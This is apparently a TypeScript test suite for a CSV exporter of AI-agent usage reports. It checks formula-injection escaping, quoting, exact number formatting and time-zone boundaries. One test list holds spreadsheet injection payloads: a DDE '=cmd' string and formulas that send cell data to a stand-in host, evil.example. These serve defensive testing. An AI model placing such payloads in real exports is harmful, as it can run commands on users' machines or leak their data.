import assert from 'node:assert/strict';
import { setImmediate } from 'node:timers';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import Papa from 'papaparse';
import { usageCsv, textCell } from '../../../src/analysis/csv.js';
import { usageSeries } from '../../../src/analysis/series.js';
import { parseReport } from '../../../src/api/parse-report.js';
import type { Metric, UsageReport } from '../../../src/api/report.js';
import type { WireAmount, WireReport } from '../../../src/api/wire.js';
import { ExactSum, MAX_DECIMALS } from '../../../src/format/amount.js';
import { report, row } from './report.js';
import { isLong } from '../../helpers/long.js';

const HEADER = ['start', 'end', 'agent_id', 'agent', 'model_id', 'model', 'credits', 'messages'];

/** Signs that begin a formula, full-width or not, after characters that a program may drop. */
const FORMULA = /^[\s\p{Z}\p{C}]*[=+\-@＝＋－＠]/u;

/** The text as a file stores it, which cannot contain half a surrogate pair. */
const saved = (text: string): string => Buffer.from(text).toString();

function papaparse(csv: string, delimiter = ',', newline: '\n' | '\r\n' = '\r\n'): string[][] {
  return Papa.parse<string[]>(saved(csv).replace(/\r\n$/, ''), { delimiter, newline }).data;
}

/** Two independent parsers. */
const READERS: Readonly<Record<string, (csv: string) => string[][]>> = {
  papaparse: (csv) => papaparse(csv),
  'csv-parse': (csv) => parse(saved(csv), { recordDelimiter: '\r\n' }),
};

/** The lines below the header. Both parsers have to read them equally. */
async function written(data: UsageReport, agent: string | null = null): Promise<string[][]> {
  const csv = await usageCsv(data, agent);
  const [lines, same] = Object.values(READERS).map((read) => read(csv));
  assert.deepEqual(lines, same);
  const [header, ...rest] = lines!;
  assert.deepEqual(header, HEADER);
  return rest;
}

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '\tx',
  '\rx',
  '\nx',
  '\0x',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b\u202e=1',
  '\ud800=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example","Open")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
];

const AWKWARD = [
  '",=1',
  'a;b',
  'a\nb',
  'a\r\nb',
  'a\tb',
  '"quoted"',
  '"',
  '""',
  ',',
  "'",
  "O'Neill",
  'a,b',
  ' x ',
  '名前',
];

describe('text cells', () => {
  it('in which a formula could begin have an apostrophe in front, and are quoted [H10]', () => {
    for (const text of HOSTILE) {
      const cell = textCell(text);
      assert.match(cell, /^"'[^]*"$/, JSON.stringify(text));
      for (const [name, read] of Object.entries(READERS)) {
        const [[value] = []] = read(`${cell}\r\n`);
        assert.equal(value!.replaceAll("'", ''), saved(text).replaceAll("'", ''), name);
        assert.equal(value!.startsWith("'"), true, name);
      }
    }
    assert.equal(textCell('=1+1'), `"'=1+1"`);
    assert.equal(textCell('=A("b")'), `"'=A(""b"")"`);
  });

  it('of any other text come back as they were', () => {
    for (const text of [...AWKWARD, 'Support', 'a=b', 'a-b', 'x @ y', '#1', '', '1e5', '007', '<b>', 'TRUE']) {
      for (const [name, read] of Object.entries(READERS)) {
        const [[value] = []] = read(`${textCell(text)},x\r\n`);
        assert.equal(value, text, `${name} ${JSON.stringify(text)}`);
      }
    }
    assert.equal(textCell('Support'), 'Support');
  });

  it('begin no formula either where the program separates cells by semicolons or tabs [H10]', () => {
    assert.equal(textCell('a;=1'), `"a;'=1"`);
    assert.equal(textCell('a; \t"=1'), `"a; \t""'=1"`);
    assert.equal(textCell('a\n@x'), `"a\n'@x"`);
  });

  it('of 100 kB are written at once [H7 H10]', () => {
    for (const unit of ['=', '\t', ' ', ';', ';=', '"', "'", ' \ufeff', '-x', '\u0301', '\ud800']) {
      const text = unit.repeat(100_000 / unit.length);
      assert.ok(textCell(text).length >= text.length);
    }
  });
});

describe('usageCsv', () => {
  it('has a row for each bucket, agent and model that was used', async () => {
    const data = report({
      agents: [
        { id: 'agt_1', name: 'Support, EU' },
        { id: 'agt_2', name: 'Sales' },
      ],
      models: [{ id: 'mini', name: 'Mini' }],
      rows: [
        { bucket: 1, agent: 'agt_2', model: 'mini', credits: 7, messages: 1 },
        { bucket: 0, agent: 'agt_1', model: 'mini', credits: '0.1', messages: 2 },
        { bucket: 0, agent: 'agt_1', model: 'max', credits: 40, messages: 3 },
        { bucket: 0, agent: 'agt_1', model: 'mini', credits: 0.2, messages: 5 },
      ],
    });
    const [first, second] = [
      '2026-11-01T00:00:00+00:00,2026-11-02T00:00:00+00:00',
      '2026-11-02T00:00:00+00:00,2026-11-03T00:00:00+00:00',
    ];
    assert.equal(
      await usageCsv(data, null),
      `${HEADER.join()}\r\n` +
        `${first},agt_1,"Support, EU",mini,Mini,0.3,7\r\n` +
        `${first},agt_1,"Support, EU",max,max,40,3\r\n` +
        `${second},agt_2,Sales,mini,Mini,7,1\r\n`,
    );
  });

  it('has only its header where nothing was used', async () => {
    for (const rows of [[], [row(0, 'a', 0, 0), row(1, 'a', '0.00', null)]]) {
      assert.equal(await usageCsv(report({ rows }), null), `${HEADER.join()}\r\n`);
    }
  });

  it('leaves empty what is not known: the agent of usage that has none, a price, a count of messages', async () => {
    const lines = await written(
      report({ rows: [row(0, null, 5, null), row(0, 'a', null, 3), row(0, 'a', 2, 1), row(0, 'a', null, null)] }),
    );
    assert.deepEqual(
      lines.map((line) => line.slice(2)),
      [
        ['', '', '', '', '5', ''],
        ['a', 'a', '', '', '', '3'],
        ['a', 'a', '', '', '2', '1'],
      ],
    );
  });

  it('holds one agent apart, and has nothing of an unknown one', async () => {
    const data = report({ rows: [row(0, 'a', 1), row(1, 'b', 2), row(1, null, 4), row(2, 'a', 8)] });
    const credits = (lines: string[][]) => lines.map((line) => line[6]);
    assert.deepEqual(credits(await written(data, 'a')), ['1', '8']);
    assert.deepEqual(credits(await written(data, 'b')), ['2']);
    for (const stranger of ['c', '__proto__', 'length', '-1']) assert.deepEqual(await written(data, stranger), []);
  });

  it('writes numbers as numbers, with every digit and without an exponent [H10]', async () => {
    const amounts: [WireAmount, string][] = [
      [-5, '-5'],
      ['-0.5', '-0.5'],
      [1e21, '1000000000000000000000'],
      [1e-7, '0.0000001'],
      ['9007199254740993', '9007199254740993'],
      ['-123456789012345678901234567890.125', '-123456789012345678901234567890.125'],
    ];
    const csv = await usageCsv(report({ days: 'cccccc', rows: amounts.map(([sent], i) => row(i, 'a', sent)) }), null);
    assert.deepEqual(
      csv.split('\r\n').slice(1, -1),
      amounts.map(
        ([, digits], i) => `2026-11-0${i + 1}T00:00:00+00:00,2026-11-0${i + 2}T00:00:00+00:00,a,a,,,${digits},0`,
      ),
    );
  });

  it('writes times on the clock of the zone, also on days that begin and end with another offset', async () => {
    const times = async (from: string, to: string, buckets: WireReport['buckets'], zone = 'America/New_York') => {
      const rows = (buckets as unknown[]).map((_, bucket) => row(bucket, 'a', 1));
      const query = { from, to, granularity: 'day', time_zone: zone, agents: [] } as const;
      const totals = { credits: null, messages: null };
      const lines = await written(parseReport({ version: 1, query, buckets, rows, totals }));
      return lines.map(([start, end]) => [start, end]);
    };
    const changeOfClocks = [
      { start: '2026-10-31T00:00:00-04:00', end: '2026-11-01T00:00:00-04:00' },
      { start: '2026-11-01T00:00:00-04:00', end: '2026-11-02T00:00:00-05:00' },
    ];
    const asWritten = changeOfClocks.map(({ start, end }) => [start, end]);
    // The end of the last day is computed with the zone. The ends of other buckets, and of all buckets in an unknown
    // zone, are the starts of the next buckets.
    assert.deepEqual(await times('2026-10-31', '2026-11-02', changeOfClocks), asWritten);
    const following = { start: '2026-11-02T00:00:00-05:00', end: '2026-11-03T00:00:00-05:00' };
    assert.deepEqual(await times('2026-10-31', '2026-11-03', [...changeOfClocks, following], 'Mars/Phobos'), [
      ...asWritten,
      [following.start, following.end],
    ]);
    const nepal = { start: '2026-11-01T00:00:00+05:45', end: '2026-11-01T12:30:15.250+05:45' };
    assert.deepEqual(await times('2026-11-01', '2026-11-02', [nepal], 'Asia/Kathmandu'), [[nepal.start, nepal.end]]);
  });

  const texts = fc.oneof(
    fc.constantFrom(...HOSTILE, ...AWKWARD, '__proto__', 'constructor', 'length', '0', '-0'),
    fc.string({ unit: 'binary', minLength: 1 }),
    fc.string({
      unit: fc.constantFrom('=', '-', '＋', '@', ';', ',', '"', "'", '\t', '\r', '\n', '\0', ' ', 'a', '\ufeff'),
    }),
  );
  const ids = texts.filter((text) => text !== '');
  const amounts: fc.Arbitrary<WireAmount | null> = fc.option(
    fc.oneof(
      fc.integer({ min: -1_000, max: 1_000_000 }).map((units) => units / 10),
      fc.bigInt({ min: -(10n ** 25n), max: 10n ** 25n }).map(String),
    ),
    { freq: 6 },
  );
  const recipes = fc
    .tuple(fc.uniqueArray(ids, { minLength: 1, maxLength: 4 }), fc.array(texts, { minLength: 4, maxLength: 4 }))
    .chain(([identities, names]) => {
      const rows = fc.record({
        bucket: fc.nat(2),
        agent: fc.constantFrom(null, ...identities),
        model: fc.constantFrom(null, ...identities),
        credits: amounts,
        messages: amounts,
      });
      return fc.record({
        agents: fc.constant(identities.map((id, i) => ({ id, name: names[i]! }))),
        rows: fc.array(rows, { maxLength: 20 }),
      });
    });

  it('adds up to the report, whoever reads it [H10]', async () => {
    await fc.assert(
      fc.asyncProperty(recipes, fc.nat(4), async (recipe, chosen) => {
        const data = report(recipe);
        const agent = recipe.agents[chosen]?.id ?? null;
        const lines = await written(data, agent);
        for (const [metric, column] of [
          ['credits', 6],
          ['messages', 7],
        ] as [Metric, number][]) {
          const sum = new ExactSum(MAX_DECIMALS);
          for (const line of lines) if (line[column] !== '') sum.add(line[column]!);
          const { total } = usageSeries(data, metric, agent);
          assert.equal(String(sum.value), String(total ?? 0));
        }
      }),
    );
  });

  it('says of every agent and model what was sent, but for apostrophes', async () => {
    const bare = (text = '') => saved(text).replaceAll("'", '');
    await fc.assert(
      fc.asyncProperty(recipes, async (recipe) => {
        const data = report(recipe);
        const used = new Set(
          recipe.rows
            .filter(({ credits, messages }) => credits === null || Number(credits) !== 0 || Number(messages) !== 0)
            .map(({ bucket, agent, model, credits, messages }) => {
              const kind = credits === null ? 'unpriced' : messages === null ? 'no message' : 'priced';
              return JSON.stringify([bucket, agent, model, kind]);
            }),
        );
        const lines = await written(data);
        assert.ok(lines.length <= used.size);
        const agents = new Set(data.agents.map(({ id }) => bare(id)));
        const models = new Set(data.models.map(({ id }) => bare(id)));
        for (const [, , agentId, agent, modelId, model] of lines) {
          assert.ok(agentId === '' ? agent === '' : agents.has(bare(agentId)));
          assert.ok(modelId === '' ? model === '' : models.has(bare(modelId)));
        }
        const names = new Set(data.agents.map(({ name }) => bare(name)));
        for (const line of lines) assert.ok(line[2] === '' || names.has(bare(line[3])), line[3]);
      }),
    );
  });

  it('has no cell that a program could take for a formula, by comma, semicolon or tab [H10]', async () => {
    await fc.assert(
      fc.asyncProperty(recipes, async (recipe) => {
        const csv = await usageCsv(report(recipe), null);
        for (const [name, read] of Object.entries(READERS)) {
          for (const line of read(csv).slice(1)) {
            for (const cell of line.slice(2, 6)) {
              assert.doesNotMatch(cell, FORMULA, name);
              assert.doesNotMatch(cell, /^[\t\r\n\0]/, name);
            }
            for (const cell of line.slice(6)) assert.match(cell, /^(-?\d+(\.\d+)?)?$/);
          }
        }
        for (const delimiter of [';', '\t']) {
          for (const newline of ['\n', '\r\n'] as const) {
            for (const cell of papaparse(csv, delimiter, newline).flat()) assert.doesNotMatch(cell, FORMULA);
          }
        }
      }),
    );
  });

  it('lets others have their turn every ten milliseconds while it writes 50,000 rows', async (t) => {
    const count = 50_000;
    const index = Array.from({ length: count }, (_, i) => i);
    const start = Date.UTC(2026, 0, 1);
    const data = parseReport({
      version: 1,
      query: { from: '2026-01-01', to: '2026-03-01', granularity: 'hour', time_zone: 'UTC', agents: [] },
      buckets: {
        start: Array.from({ length: 1_000 }, (_, i) => new Date(start + i * 3_600_000).toISOString()),
        end: Array.from({ length: 1_000 }, (_, i) => new Date(start + (i + 1) * 3_600_000).toISOString()),
      },
      rows: {
        bucket: index.map((i) => i % 1_000),
        agent: index.map((i) => `agent ${Math.floor(i / 1_000)}`),
        credits: index.map((i) => 1 + (i % 7)),
        messages: index.map(() => 1),
      },
      totals: { credits: null, messages: null },
    });
    // A clock that advances by ten milliseconds with each reading, independent of the machine.
    let clock = 0;
    const looks = t.mock.method(performance, 'now', () => (clock += 10));
    let turns = 0;
    let isDone = false;
    const tick = (): void => {
      turns++;
      if (!isDone) setImmediate(tick);
    };
    setImmediate(tick);
    const csv = await usageCsv(data, null);
    isDone = true;
    assert.equal(csv.split('\r\n').length, count + 2);
    assert.ok(looks.mock.callCount() >= 100, `${looks.mock.callCount()} looks at the clock`);
    assert.ok(turns >= 50, `${turns} turns`);
  });

  it('writes every minute of months', async () => {
    const count = isLong ? 200_000 : 50_000;
    const time = (minute: number): string => new Date(Date.UTC(2026, 0, 1) + minute * 60_000).toISOString();
    const minutes = Array.from({ length: count }, (_, i) => i);
    const data = parseReport({
      version: 1,
      query: { from: '2026-01-01', to: '2026-06-01', granularity: 'minute', time_zone: 'UTC', agents: [] },
      buckets: { start: minutes.map(time), end: minutes.map((minute) => time(minute + 1)) },
      rows: { bucket: minutes, credits: minutes.map(() => 1), messages: minutes.map(() => 1) },
      totals: { credits: null, messages: null },
    });
    const csv = await usageCsv(data, null);
    const [start, end] = [count - 1, count].map((minute) => time(minute).replace('.000Z', '+00:00'));
    assert.ok(csv.endsWith(`${start},${end},,,,,1,1\r\n`), csv.slice(-99));
  });
});
